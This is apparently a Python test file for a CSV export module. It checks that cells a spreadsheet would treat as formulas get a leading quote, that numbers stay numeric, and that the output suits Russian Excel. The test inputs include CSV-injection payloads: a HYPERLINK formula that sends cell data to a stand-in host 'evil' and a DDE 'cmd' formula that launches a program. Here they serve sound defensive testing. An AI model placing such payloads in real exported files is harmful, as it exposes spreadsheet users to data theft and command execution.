"""CSV exports neutralise formula cells (CSV injection) and keep numbers numbers."""
from decimal import Decimal

from syncsite.csv_export import cell, csv_response


def test_text_that_a_spreadsheet_would_run_is_defused():
    for text in ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"):
        assert cell(text) == "'" + text
    assert cell("Товар =1") == "Товар =1"


def test_numbers_stay_numbers_and_nothing_is_lost():
    assert cell(Decimal("-3.000")) == Decimal("-3.000")
    assert cell(-2) == -2 and cell(None) == "" and cell(True) == "1"


def test_the_file_opens_in_russian_excel():
    response = csv_response("x.csv", ["sku", "name"], [["A-1", "=cmd|' /C calc'!A0"], ["B-2", "Ёлка"]])
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeffsku;name\r\n")
    assert "A-1;'=cmd|' /C calc'!A0" in body and "B-2;Ёлка" in body
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
